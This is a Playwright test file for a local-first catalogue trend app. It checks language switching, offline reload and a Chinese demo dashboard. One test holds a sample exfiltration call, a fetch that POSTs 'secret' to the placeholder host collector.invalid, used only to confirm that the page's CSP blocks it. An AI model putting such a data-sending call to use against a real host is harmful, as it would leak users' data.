import { expect, snapshot, test } from './fixtures.ts';

test('the shell loads, says data stays local, and switches to Chinese', async ({ page, requests }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Drop a catalogue file here' })).toBeVisible();
  await expect(page.getByText('No byte of your data leaves it.')).toBeVisible();
  await page.getByTestId('language').click();
  await expect(page.getByRole('heading', { name: '把商品目录文件拖到这里' })).toBeVisible();
  expect(requests.all.length).toBeGreaterThan(0);
});

test('the built page forbids connections to other origins (CSP)', async ({ page }) => {
  await page.goto('/');
  // A .invalid host never resolves, so even without the policy no packet would leave; the test
  // asserts the browser's own CSP violation report, which only the policy produces.
  const violation = await page.evaluate(async () => {
    const seen = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.violatedDirective} ${e.blockedURI}`), { once: true }),
    );
    await fetch('https://collector.invalid/collect', { method: 'POST', body: 'secret' }).catch(() => undefined);
    return Promise.race([seen, new Promise<string>((resolve) => setTimeout(() => resolve('no violation'), 3000))]);
  });
  expect(violation).toMatch(/^connect-src https:\/\/collector\.invalid/);
});

test('the shell reloads offline after the first visit', async ({ page, context }) => {
  await page.goto('/');
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
  });
  // The service worker claims the open page (no reload needed); then go offline. Module scripts are
  // requested in CORS mode, unlike the precache's fetches: the cache lookup must still hit.
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await context.setOffline(true);
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Drop a catalogue file here' })).toBeVisible();
  await snapshot(page, 'offline-shell');
  await context.setOffline(false);
});

test('the demo journey reads in Chinese: mapping step and dashboard tabs', async ({ page, requests: _requests }) => {
  test.setTimeout(300_000);
  await page.goto('/');
  await page.getByTestId('language').click();
  await expect(page.getByTestId('language')).toHaveText('English');
  await page.getByTestId('demo').click();
  const mapping = page.getByTestId('mapping');
  await expect(mapping.getByRole('heading', { name: '确认各列的含义' })).toBeVisible();
  await expect(page.getByTestId('dataset-summary')).toContainText('已读取 5,000 行');
  await expect(page.getByTestId('row-count')).toHaveText('5,000');
  await expect(page.getByTestId('columns').locator('option', { hasText: '商品文本' }).first()).toBeAttached();
  await expect(page.getByTestId('confirm-mapping')).toHaveText('继续');
  await page.getByTestId('confirm-mapping').click();
  await expect(page.getByTestId('dashboard')).toBeVisible({ timeout: 180_000 });
  await expect(page.getByTestId('tab-trends')).toHaveText('趋势浏览');
  await expect(page.getByTestId('tab-movers')).toHaveText('涨跌榜');
  await expect(page.getByTestId('tab-seasons')).toHaveText('季节热力图');
  await expect(page.getByTestId('based-on')).toContainText('数据依据：demo-catalogue.csv');
  await expect(page.getByTestId('based-on')).toContainText('标签：Trendloom 分类模型');
  await page.getByTestId('tab-movers').click();
  await expect(page.getByTestId('rising').getByRole('heading', { name: '上升' })).toBeVisible();
  await snapshot(page, 'dashboard-zh');
  // Back to English: the same view, re-labelled.
  await page.getByTestId('language').click();
  await expect(page.getByTestId('tab-movers')).toHaveText('Movers');
});
